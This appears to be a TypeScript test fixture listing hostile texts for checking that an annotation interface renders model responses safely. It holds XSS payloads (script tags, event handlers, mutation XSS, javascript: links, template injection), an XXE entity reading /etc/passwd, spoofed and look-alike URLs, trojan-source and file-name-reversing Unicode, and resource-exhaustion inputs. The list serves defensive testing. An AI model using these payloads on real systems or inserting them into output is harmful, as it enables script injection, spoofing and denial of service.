/** A text that tries something, and what it tries. */
export interface HostileResponse {
  readonly name: string;
  readonly text: string;
}

/** Set by whatever a hostile text gets to run; loaded by whatever it gets to load. */
export const MARK = 'pwned';
const RUN = `window.${MARK}=1`;
const AWAY = `https://away.invalid/${MARK}`;

const lines = (count: number, line: (at: number) => string): string => Array.from({ length: count }, (_, at) => line(at)).join('\n');
const fenced = (info: string, code: string): string => `\`\`\`${info}\n${code}\n\`\`\``;

const HTML: readonly (readonly [string, string])[] = [
  ['script element', `<script>${RUN}</script>`],
  ['script from elsewhere', `<script src="${AWAY}.js"></script><script type="module">import "${AWAY}.js"</script>`],
  ['image with a handler', `<img src=x onerror="${RUN}"><img src="${AWAY}.png">`],
  ['handlers without a click', `<body onload="${RUN}"><input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}"><video autoplay onloadstart="${RUN}" src="${AWAY}"></video>`],
  ['SVG', `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x /><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"/></svg>`],
  ['SVG with foreign object', `<svg><foreignObject><iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe></foreignObject></svg>`],
  ['MathML with links', `<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">x</maction><mtext><img src=x onerror=${RUN}></mtext></math>`],
  ['frames', `<iframe src="javascript:parent.${RUN}"></iframe><iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe><frameset><frame src="${AWAY}"></frameset>`],
  ['object and embed', `<object data="${AWAY}"></object><embed src="${AWAY}"><applet code="${AWAY}"></applet>`],
  ['meta refresh and base', `<meta http-equiv="refresh" content="0;url=${AWAY}"><base href="https://away.invalid/"><link rel="stylesheet" href="${AWAY}.css"><link rel="prefetch" href="${AWAY}">`],
  ['form', `<form action="${AWAY}"><input name=q><button formaction="javascript:${RUN}">Submit</button></form><isindex action="javascript:${RUN}">`],
  ['style element', `<style>@import url("${AWAY}.css"); body{display:none} .pairloop{background:url(${AWAY}.png)}</style>`],
  ['style attribute', `<div style="position:fixed;inset:0;z-index:99999;background:url(${AWAY}.png);width:expression(${RUN})">over all</div>`],
  ['template and noscript', `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['mutation by SVG and style', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  ['mutation by math and mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ['mutation by form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ['textarea and title', `<textarea><img src=x onerror=${RUN}></textarea><title><script>${RUN}</script></title></title></textarea><img src=x onerror=${RUN}>`],
  ['comments and CDATA', `<!-- <script>${RUN}</script> --><!--><img src=x onerror=${RUN}>--><![CDATA[<script>${RUN}</script>]]><!--[if IE]><script>${RUN}</script><![endif]-->`],
  ['broken tags', `<scr<script>ipt>${RUN}</script><<img src=x onerror=${RUN}//><img """><script>${RUN}</script>"><a href="x"onclick=${RUN}>x`],
  ['tags with slashes and NULs', `<img/src=x/onerror=${RUN}><s\u0000cript>${RUN}</s\u0000cript><img\u000csrc=x\u000conerror=${RUN}>`],
  ['character references for tags', `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; &#x3c;script&#x3e;`],
  ['XML and entities', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY e SYSTEM "file:///etc/passwd">]><x>&b;&e;</x>`],
  ['custom and portal elements', `<x-pairloop onclick=${RUN}></x-pairloop><portal src="${AWAY}"></portal><slot></slot><dialog open>dialog</dialog>`],
];

const ADDRESSES: readonly (readonly [string, string])[] = [
  ['javascript links', `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](javascript&colon;${RUN}) [d](java&#x73;cript:${RUN}) [e](javascript%3A${RUN})`],
  ['javascript links with white space', `[a](<java\tscript:${RUN}>) [b](<\u0001javascript:${RUN}>) [c](<java&NewLine;script:${RUN}>) [d](&#1;javascript:${RUN})`],
  ['other schemes', `[a](vbscript:x) [b](data:text/html;base64,PHNjcmlwdD4=) [c](file:///etc/passwd) [d](blob:https://away.invalid/x) [e](view-source:x) [f](about:blank)`],
  ['data documents', `[a](data:text/html,<script>${RUN}</script>) ![b](data:image/svg+xml,%3Csvg%20onload=${RUN}%3E) <data:text/html,x>`],
  ['images', `![a](${AWAY}.png) ![b](javascript:${RUN}) ![c](<${AWAY} x.png> "t") [![d](${AWAY}.png)](javascript:${RUN})`],
  ['autolinks', `<javascript:${RUN}> <https://away.invalid/${MARK}> <a@away.invalid> <JAVASCRIPT:${RUN}> ${AWAY}`],
  ['reference links', `[a][x] [b][y] ![c][x]\n\n[x]: javascript:${RUN} "t"\n[y]: <data:text/html,<script>${RUN}</script>>\n[unused]: ${AWAY}`],
  ['titles that break out', `[a](x "t\\" onmouseover=\\"${RUN}") [b](x 't" onclick="${RUN}') ![c](x "\\"><script>${RUN}</script>")`],
  ['addresses that break out', `[a](<"onclick=${RUN}>) [b](x"onmouseover="${RUN}) ![c]("><img src=x onerror=${RUN}>)`],
  ['user names and look-alikes', `[paypal](https://paypal.com@away.invalid/) [a](https://аррlе.com) [b](https://xn--80ak6aa92e.com) <https://раураl.com>`],
  ['backslashes in hosts', `[a](https://away.invalid\\\\@good.example) [b](https:/\\away.invalid) [c](//away.invalid/${MARK}) [d](\\\\away.invalid\\x)`],
  ['a very long address', `[a](https://away.invalid/${'path/'.repeat(20_000)}) ![b](data:image/png;base64,${'A'.repeat(100_000)})`],
];

const CODE: readonly (readonly [string, string])[] = [
  ['info strings', `${fenced(`"><script>${RUN}</script>`, 'x')}\n${fenced(`js onload=${RUN} style="x"`, 'x')}\n${fenced("'\"`<>&", 'x').replaceAll('```', '~~~~')}`],
  ['prototype words as languages', ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', '../../x', 'default'].map((name) => fenced(name, 'x = 1')).join('\n\n')],
  ['prototype words as labels', '[__proto__] [constructor] [toString]\n\n[__proto__]: x\n[constructor]: y\n[toString]: z\n\n| __proto__ | constructor |\n|---|---|\n| toString | valueOf |'],
  ['HTML as code', fenced('html', `<script>${RUN}</script><img src=x onerror=${RUN}></code></pre><script>${RUN}</script>`)],
  ['code that never ends', `\`\`\`js\nlet x = \`${'${`'.repeat(2_000)}`],
  ['hard on grammars', ['js', 'python', 'sql', 'xml', 'css', 'bash', 'php', 'ruby', 'markdown', 'typescript', 'cpp', 'perl'].map((name) => fenced(name, `${'<a '.repeat(300)}${'("'.repeat(300)}${'/*'.repeat(200)}${'{{'.repeat(300)}${"'\\".repeat(300)}`)).join('\n')],
  ['trojan source', fenced('js', '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nconst a\u200b = "\u202dsafe\u202c"; \ufeff')],
  ['tags and fillers in code', fenced('py', `x\u3164 = 1\ny\u{e0041}\u{e0042} = 2\nz\u00ad = 3\n\u115f = 4\u0007\u001b[31mred`)],
];

const FORMULAS: readonly (readonly [string, string])[] = [
  ['formulas with links', `$\\href{javascript:${RUN}}{x}$ $\\url{${AWAY}}$ $\\includegraphics{${AWAY}.png}$ $\\htmlData{a=b}{x}$ $\\htmlId{x}{y}$ $\\class{pl-button}{x}$`],
  ['formulas that expand', '$\\def\\a{\\a\\a}\\a$ $\\def\\b#1{#1#1#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}}$ $\\newcommand{\\c}{\\c}\\c$ $\\let\\x=\\x \\x$ $\\gdef\\frac{1}$ $\\frac12$'],
  ['formulas of enormous size', '$\\rule{99999em}{99999em}$ $\\hspace{-9999em}x$ $\\kern99999em$ $\\raisebox{9999em}{x}$ $\\Huge{\\Huge{\\Huge x}}$ $\\mathllap{over}$'],
  ['formulas that hide', '$\\phantom{secret}$ $\\color{white}{secret}$ $\\style{display:none}{x}$ $\\colorbox{black}{secret}$ $\\textcolor{#fff}{secret}$'],
  ['formulas with HTML', `$\\text{<script>${RUN}</script>}$ $<img src=x onerror=${RUN}>$ \\(\\unicode{x3c}script>\\) $\\text{\u202eabc}$`],
  ['broken formulas', `$\\frac{$ $}{$ $$\\begin{matrix}$$ \\(\\left(\\) $^^^^^$ $&&&$ $\\\\\\\\$ $${'{'.repeat(900)}$ $${'\\sqrt'.repeat(300)}x_$`],
  ['thousands of formulas', '$x_1$ '.repeat(5_000)],
];

const LETTERS: readonly (readonly [string, string])[] = [
  ['overrides of direction', `before \u202eafter ${'\u202e\u2067\u202b'.repeat(40)} [link \u202e](https://good.example/\u202egnp.exe) \u200fend\n\nnext \u2066paragraph`],
  ['a file name turned round', 'Open invoice_\u202efdp.exe and photo_\u2067gpj\u2069.scr'],
  ['mixed directions', 'שלום hello مرحبا 123 (abc) עולם\n\n- א\n- b\n  1. ج\n\n> عربي\n\n| א | b |\n|---|---|\n| 1 | ב |'],
  ['nothing to be seen', '\u200b\u200c\u200d\u2060\ufeff\u00ad'.repeat(500)],
  ['letters piled up', `Z${'\u0300\u0316\u0334\u035c'.repeat(400)}algo ${'e\u0301'.repeat(500)}`],
  ['NULs and halves of characters', 'a\u0000b\ud800c\udc00d\ud83d [x](http://a\ud800b\u0000) `\udfff` $\ud800$'],
  ['control characters', Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x') + '\u007f\u0085\u2028\u2029'],
  ['line ends of all kinds', 'a\r\nb\rc\n\rd\u2028e\u2029f\u000bg\u000ch\u0085i'],
  ['emoji and joined families', '👩‍👩‍👧‍👦🏳️‍🌈👍🏽'.repeat(300)],
  ['characters outside of every font', '\u{10ffff}\u{f0000}\ufffe\uffff\ue000'.repeat(200)],
  ['a word without end', 'x'.repeat(50_000)],
];

const TEMPLATES: readonly (readonly [string, string])[] = [
  ['template expressions', `{{7*7}} {{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %> [[${RUN}]] {%raw%} @{${RUN}} \`\${${RUN}}\``],
  ['Label Studio tags', `<View><Text name="text" value="$response_a"/><HyperText name="h" value="<script>${RUN}</script>" inline="true"/><Choices name="verdict" toName="text"><Choice value="b" selected="true"/></Choices></View> $prompt_text`],
  ['what the page itself is made of', '<div class="pairloop-root pairloop-live"><div class="pairloop-mount"></div></div><section class="pairloop"><button name="submit">Submit</button><p class="pl-refusal" role="alert">x</p></section>'],
  ['JSON and closing scripts', `</script><script>${RUN}</script>","response_b":"x"}];${RUN};//\u2028${RUN}`],
  ['CSS in words', `@import url(${AWAY}.css); } * { display: none !important } /* expression(${RUN}) -moz-binding:url(${AWAY}) behavior:url(x) */`],
];

const LONG: readonly (readonly [string, string])[] = [
  ['a megabyte of words', 'word and **word** '.repeat(56_000)],
  ['a line of a megabyte', 'x'.repeat(1_000_000)],
  ['ten thousand lines', lines(10_000, (at) => `Line ${at} has a few words.`)],
  ['ten thousand paragraphs', lines(10_000, (at) => `Paragraph ${at}.\n`)],
  ['ten thousand lines of code', fenced('python', lines(10_000, (at) => `x_${at} = f(${at}, "text")  # comment`))],
  ['code in a line of a megabyte', fenced('js', 'f("x");'.repeat(140_000))],
  ['a table of ten thousand rows', `| a | b |\n|---|---|\n${lines(10_000, (at) => `| ${at} | **x** |`)}`],
  ['a table of a thousand columns', `|${' a |'.repeat(1_000)}\n|${'-|'.repeat(1_000)}\n${lines(30, () => `|${' 1 |'.repeat(1_000)}`)}`],
  ['ten thousand list items', lines(10_000, (at) => `- item ${at}`)],
  ['ten thousand quotes in one another', `${'>'.repeat(10_000)} deep`],
  ['ten thousand lists in one another', `${'- '.repeat(10_000)}deep`],
  ['lists deeper by each line', lines(1_000, (at) => `${'  '.repeat(at)}- x`)],
  ['ten thousand brackets', `${'['.repeat(10_000)}x${']'.repeat(10_000)}`],
  ['ten thousand images in one another', '!['.repeat(10_000)],
  ['ten thousand marks of emphasis', `${'*a_ '.repeat(10_000)}${'**_*'.repeat(10_000)}`],
  ['ten thousand backticks', lines(300, (at) => '`'.repeat(at))],
  ['ten thousand open links', `${'[a](<b'.repeat(5_000)}${'[a]('.repeat(5_000)}`],
  ['ten thousand comments begun', `${'<!--'.repeat(10_000)}${'<?'.repeat(10_000)}${'<![CDATA['.repeat(5_000)}`],
  ['ten thousand references', `${lines(5_000, (at) => `[a${at}]: b`)}\n\n${'[a1][a2]'.repeat(5_000)}`],
  ['ten thousand character references', `${'&amp;'.repeat(10_000)}${'&#x41;'.repeat(10_000)}${'&'.repeat(10_000)}`],
  ['ten thousand dollars', `${'$'.repeat(10_000)} ${'$a '.repeat(10_000)} ${'\\( '.repeat(10_000)} ${'$$\n'.repeat(5_000)}`],
  ['fences that open and never close', lines(5_000, (at) => `${at % 2 === 0 ? '```' : '~~~'}${'`'.repeat(at % 5)}`)],
  ['headings and rules', lines(10_000, (at) => (at % 2 === 0 ? '#'.repeat((at % 6) + 1) : '---'))],
];

/** Texts that a model, or whoever fed it, might put before an annotator. */
export const HOSTILE_RESPONSES: readonly HostileResponse[] = [...HTML, ...ADDRESSES, ...CODE, ...FORMULAS, ...LETTERS, ...TEMPLATES, ...LONG].map(([name, text]) => ({ name, text }));
